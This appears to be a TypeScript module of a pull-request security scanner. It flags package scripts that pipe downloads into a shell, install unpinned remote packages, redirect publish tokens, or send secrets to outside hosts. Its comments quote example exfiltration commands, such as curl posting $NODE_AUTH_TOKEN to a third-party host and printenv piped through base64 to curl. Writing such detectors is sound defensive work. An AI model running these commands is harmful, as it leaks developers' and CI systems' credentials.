import type { KeyedFinding } from '../../ecosystems/finding.js';
import { makeFinding } from '../../ecosystems/finding.js';
import { sendsData, sendsSecretElsewhere } from '../../ecosystems/build-code/behaviors.js';
import { findPipeToShell, pipeCommandKey } from '../../ecosystems/shell/pipe-to-shell.js';
import { scriptRunsIn } from '../../ecosystems/shell/download-run.js';
import { findRemoteInstalls, remoteInstallFinding } from '../../ecosystems/shell/remote-installs.js';
import { secretNamedVariablesSent } from '../../ecosystems/shell/secret-named-pick.js';
import { helperOutputsAsVariables, helperOutputVariables } from '../../ecosystems/shell/credential-helpers.js';
import { WHOLE_ENVIRONMENT } from '../../ecosystems/code/sink-rules.js';
import { redirectedRegistryTokens } from '../../ecosystems/github-actions/secret-rules.js';
import { lineOf } from '../../ecosystems/util.js';
import type { ParsedFile } from './parsed-file.js';
import { readableSides } from './readable-sides.js';

/**
 * `curl-pipe-shell` in manifest scripts (npm, composer): a download run unverified, new in the PR
 * (piped into a shell, or saved to a file and then sourced or run: scriptRunsIn, each source once a script);
 * `remote-package-install`: a script that installs a package from a git ref without a full
 * commit or a URL without a hash (`"postinstall": "npm i -g https://host/tool.tgz"`), new in the PR;
 * and `publish-token-redirect`: a script the PR adds or changes (any name: `release`,
 * `prepublishOnly`) hands a registry's token to another host (`echo "//npm.cdn.dev/:_authToken=$NPM_TOKEN"
 * > .npmrc && npm publish`), which no script of the base handed it to; `suspicious-network-endpoint`:
 * a script the PR adds or changes that sends a token named for one service as data (a body, a form,
 * a URL) to another's host (`curl -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/`; a
 * credential helper's output counts as its service's token: `T=$(gh auth token); curl -d "$T" …`), or
 * that sends the whole environment or the variables it picks by a secret's word (`printenv | base64 |
 * curl -d @- …`, `for v in $(compgen -e | grep -i token); do curl … -d "${!v}"; done`).
 */
/** The variables a script assigns a credential helper's output to (`T=$(gcloud auth print-access-token)`), each judged by the name of a secret of the helper's service (`GCLOUD_ACCESS_TOKEN`). */
function helperNames(script: string): Map<string, string> {
  return new Map([...helperOutputVariables(script.split('\n'))].map(([name, helper]) => [name, helper.judgedName]));
}

export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
  const findings: KeyedFinding[] = [];
  for (const file of files) {
    if (file.match.file.kind === 'lockfile') continue;
    const sides = readableSides(file);
    if (!sides?.head.scripts) continue;
    // What the base's scripts already did, in one pass over them: piped downloads (`before`), remote
    // installs (`installedBefore`), scripts downloaded and run (`ranBefore`, every one of scriptRunsIn, by source:
    // pipeCommandKey makes a version bump the same) and registry tokens handed to a host (`handedBefore`).
    const before = new Set<string>();
    const installedBefore = new Set<string>();
    const ranBefore = new Set<string>();
    const handedBefore = new Set<string>();
    for (const script of Object.values(sides.base?.scripts ?? {})) {
      for (const command of findPipeToShell(script)) before.add(pipeCommandKey(command));
      for (const install of findRemoteInstalls(script)) installedBefore.add(install.spec);
      for (const run of scriptRunsIn(script)) ranBefore.add(pipeCommandKey(run.url));
      for (const r of redirectedRegistryTokens(script)) for (const h of r.hosts) handedBefore.add(`${r.registry} ${h}`);
    }
    for (const [name, script] of Object.entries(sides.head.scripts)) {
      if (sides.base?.scripts?.[name] !== script) {
        for (const redirect of redirectedRegistryTokens(script)) {
          const hosts = redirect.hosts.filter((h) => !handedBefore.has(`${redirect.registry} ${h}`));
          if (hosts.length === 0) continue;
          findings.push(
            makeFinding({
              id: 'publish-token-redirect',
              severity: 'high',
              title: `Script "${name}" gives ${redirect.article} ${redirect.registry} token to another registry, ${hosts.join(', ')}`,
              detail: `${file.path} script "${name}" hands ${redirect.tokens.map((t) => `$${t}`).join(', ')}, named for ${redirect.registry}, to ${hosts.join(', ')}, not the registry's own host: the client sends the token there, and whoever runs that host can publish as the project. Publish to the registry itself (or use trusted publishing), give a private registry its own token, and revoke the token if this ran.`,
              path: file.path,
              line: lineOf(sides.headContent, `"${name}"`),
              subject: `token-redirect:${redirect.registry}:${hosts.join(',')}`,
            }),
          );
        }
      }
      // `suspicious-network-endpoint`: a script the PR adds or changes that sends a token named for one service as data to another's host.
      if (sides.base?.scripts?.[name] !== script && (sendsData(script, 'shell') || /\b(?:curl|wget)\b/.test(script)) && sendsSecretElsewhere(helperOutputsAsVariables(script), helperNames(script))) {
        findings.push(
          makeFinding({
            id: 'suspicious-network-endpoint',
            severity: 'high',
            title: `Script "${name}" sends a secret named for another service to a host`,
            detail: `${file.path} script "${name}" puts a variable named for a service or product (a registry token such as $NPM_TOKEN or $NODE_AUTH_TOKEN), or what a credential helper prints (gh auth token, gcloud auth print-access-token), into the data or URL of a request to a host that is not that service's: whoever runs the script with the token set (a release job, a maintainer's shell) hands it over. A token goes to its own service as a header or a login; remove the request, and rotate the token if it ran.`,
            path: file.path,
            line: lineOf(sides.headContent, `"${name}"`),
            subject: `script-secret-sent:${name}`,
          }),
        );
      }
      // `suspicious-network-endpoint`: a script the PR adds or changes that sends the environment's secrets (`printenv | base64 | curl -d @- …`, the variables it picks by a secret's word and their values: `compgen -e | grep -i token` and `${!v}`).
      else if (sides.base?.scripts?.[name] !== script) {
        const picked = secretNamedVariablesSent(script.split('\n')) !== null;
        if (picked || (sendsData(script, 'shell') && WHOLE_ENVIRONMENT.any?.test(script) === true)) {
          findings.push(
            makeFinding({
              id: 'suspicious-network-endpoint',
              severity: 'high',
              title: picked ? `Script "${name}" sends the values of environment variables named like secrets` : `Script "${name}" sends the whole environment`,
              detail: `${file.path} script "${name}" ${picked ? 'picks the environment variables whose names say token, secret, key or password and sends their values' : 'sends the whole environment (every variable, so every token and secret)'} over the network: whoever runs the script (a CI job, a maintainer's shell) hands over every secret it holds. That is the shape of credential theft (the Shai-Hulud worm and the GhostAction workflows collected secrets so); remove it, and rotate the secrets if it ran.`,
              path: file.path,
              line: lineOf(sides.headContent, `"${name}"`),
              subject: `script-environment-sent:${name}`,
            }),
          );
        }
      }
      // `remote-package-install`: a script that installs a package from a moving git ref or a URL without a hash.
      for (const install of findRemoteInstalls(script)) {
        if (installedBefore.has(install.spec)) continue;
        installedBefore.add(install.spec);
        findings.push(remoteInstallFinding(install, file.path, lineOf(sides.headContent, `"${name}"`), 'script'));
      }
      // `curl … | sh` in two steps: `curl -o x.sh https://… && sh x.sh`, each source of the script once
      // (a second installer after one the base already ran is reported; the same at two versions is one).
      const ran = new Set<string>();
      for (const run of sides.base?.scripts?.[name] !== script ? scriptRunsIn(script) : []) {
        const key = pipeCommandKey(run.url);
        if (ranBefore.has(key) || ran.has(key)) continue;
        ran.add(key);
        findings.push(
          makeFinding({
            id: 'curl-pipe-shell',
            severity: 'high',
            title: `Script "${name}" runs a script it downloads`,
            detail: `${file.path} script "${name}" downloads ${run.url} to a file and runs it as a script (sourced or given to a shell): whatever the server returns is executed unverified, as \`curl … | sh\` would.`,
            path: file.path,
            line: lineOf(sides.headContent, `"${name}"`),
            subject: `script:${pipeCommandKey(run.url)}`,
          }),
        );
      }
      for (const command of findPipeToShell(script)) {
        if (before.has(pipeCommandKey(command))) continue;
        findings.push(
          makeFinding({
            id: 'curl-pipe-shell',
            severity: 'high',
            title: `Script "${name}" pipes a download into a shell`,
            detail: `${file.path} script "${name}" runs \`${command}\`: whatever the server returns is executed unverified.`,
            path: file.path,
            line: lineOf(sides.headContent, `"${name}"`),
            subject: pipeCommandKey(command),
          }),
        );
      }
    }
  }
  return findings;
}
